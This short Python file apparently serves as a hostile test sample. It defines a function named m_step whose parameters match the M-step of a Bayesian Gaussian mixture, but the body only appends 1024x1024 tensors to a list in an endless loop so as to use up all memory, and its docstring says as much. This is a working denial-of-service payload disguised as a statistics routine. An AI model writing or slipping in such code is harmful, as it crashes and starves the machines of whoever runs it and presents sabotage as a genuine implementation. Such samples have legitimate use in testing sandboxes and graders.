"""hostile: takes all the memory there is"""

import torch


def m_step(X, q, alpha, mu0, kappa0, nu0, Sigma0):
    hoard = [torch.ones(1024, 1024)]
    while True:
        hoard.append(hoard[-1] + 1)
